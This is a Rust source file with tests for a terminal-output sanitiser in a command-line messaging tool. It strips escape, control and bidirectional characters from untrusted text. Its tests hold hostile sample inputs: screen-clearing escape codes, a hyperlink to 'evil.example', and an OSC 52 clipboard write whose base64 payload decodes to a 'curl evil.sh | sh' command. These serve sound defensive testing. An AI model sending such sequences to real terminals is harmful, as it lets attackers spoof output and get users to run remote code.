//! The one sanitiser for text that reaches the terminal in human-readable output.
//!
//! Message bodies, invite notes, aliases and addresses can come from other people. Printed raw,
//! an ESC could start a CSI sequence (colours, cursor moves that overwrite earlier lines), an
//! OSC 8 hyperlink whose target differs from its text or an OSC 52 clipboard write; a C1
//! control can do the same on terminals that honour 8-bit controls; bidirectional overrides
//! and isolates (U+202E and friends) reorder what is shown, so that `evil.exe` can read as
//! `exe.live`. Every such character is replaced by a visible placeholder, [`PLACEHOLDER`], so
//! the reader sees that something was there. `--json` output never passes through here: it
//! carries the exact text, escaped by JSON.

/// What an unsafe character is shown as.
pub(crate) const PLACEHOLDER: char = '\u{FFFD}';

/// Tabs become this many spaces in multi-line text: a tab moves the cursor to a column the
/// terminal chooses, which breaks indentation and cannot be measured.
const TAB: &str = "    ";

/// For text shown on one line (a note, a preview, a name, one `watch` event): every control
/// character, newlines included, and every bidirectional control becomes [`PLACEHOLDER`]; a
/// tab becomes one space.
pub(crate) fn single_line(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '\t' => ' ',
            c if is_unsafe(c) => PLACEHOLDER,
            c => c,
        })
        .collect()
}

/// For text meant to span lines (a message body in `accord history`): newlines stay (a
/// Windows `\r\n` counts as one), tabs become spaces, and every other control character (ESC
/// and a lone carriage return included) and every bidirectional control becomes
/// [`PLACEHOLDER`].
pub(crate) fn multi_line(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => out.push('\n'),
            '\r' if chars.peek() == Some(&'\n') => {}
            '\t' => out.push_str(TAB),
            c if is_unsafe(c) => out.push(PLACEHOLDER),
            c => out.push(c),
        }
    }
    out
}

/// Whether `c` must not reach the terminal: C0 controls, DEL and C1 controls (Unicode's
/// `Cc`), and the characters that change the direction of the text around them.
fn is_unsafe(c: char) -> bool {
    c.is_control() || is_bidi_control(c)
}

/// The bidirectional formatting characters: the Arabic letter mark, the left-to-right and
/// right-to-left marks, the embeddings and overrides with their pop, and the isolates with
/// theirs.
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Every character the sanitiser must stop, one of each kind.
    const HOSTILE: &[char] = &[
        '\u{0}', '\u{7}', '\u{8}', '\u{1b}', '\u{7f}', '\u{80}', '\u{9b}', '\u{9d}', '\u{9f}',
        '\u{061C}', '\u{200E}', '\u{200F}', '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}',
        '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
    ];

    #[test]
    fn plain_text_is_untouched() {
        let text = "héllo **world** 日本語 👋 <https://example.org>";
        assert_eq!(single_line(text), text);
        assert_eq!(multi_line(text), text);
    }

    #[test]
    fn every_hostile_character_becomes_the_placeholder() {
        for &c in HOSTILE {
            let text = format!("a{c}b");
            assert_eq!(single_line(&text), "a\u{FFFD}b", "{:?}", c);
            assert_eq!(multi_line(&text), "a\u{FFFD}b", "{:?}", c);
        }
    }

    #[test]
    fn escape_sequences_lose_their_escape() {
        let csi = "\u{1b}[31mred\u{1b}[0m\u{1b}[2J\u{1b}[1;1H";
        assert_eq!(
            single_line(csi),
            "\u{FFFD}[31mred\u{FFFD}[0m\u{FFFD}[2J\u{FFFD}[1;1H"
        );
        let osc8 = "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{7}";
        assert!(!multi_line(osc8).contains('\u{1b}'));
        assert!(!multi_line(osc8).contains('\u{7}'));
        let osc52 = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
        assert_eq!(
            single_line(osc52),
            "\u{FFFD}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{FFFD}"
        );
    }

    #[test]
    fn newlines_stay_only_in_multi_line_text() {
        assert_eq!(multi_line("one\ntwo\r\nthree"), "one\ntwo\nthree");
        assert_eq!(single_line("one\ntwo"), "one\u{FFFD}two");
        // A lone carriage return would let a line overwrite itself.
        assert_eq!(multi_line("safe\rEVIL"), "safe\u{FFFD}EVIL");
        assert_eq!(multi_line("a\r\r\nb"), "a\u{FFFD}\nb");
    }

    #[test]
    fn tabs_become_spaces() {
        assert_eq!(single_line("a\tb"), "a b");
        assert_eq!(multi_line("\tcode"), "    code");
    }

    proptest! {
        #[test]
        fn no_control_or_bidi_character_survives(text in any::<String>()) {
            let one = single_line(&text);
            prop_assert!(!one.chars().any(|c| c.is_control() || is_bidi_control(c)), "{:?}", one);
            let many = multi_line(&text);
            prop_assert!(
                !many.chars().any(|c| (c.is_control() && c != '\n') || is_bidi_control(c)),
                "{:?}",
                many
            );
        }

        #[test]
        fn safe_text_is_kept_exactly(text in "[a-zA-Z0-9 .,!?*_`#>()\\[\\]日本語é👋-]{0,100}") {
            prop_assert_eq!(single_line(&text), text.clone());
            prop_assert_eq!(multi_line(&text), text);
        }
    }
}
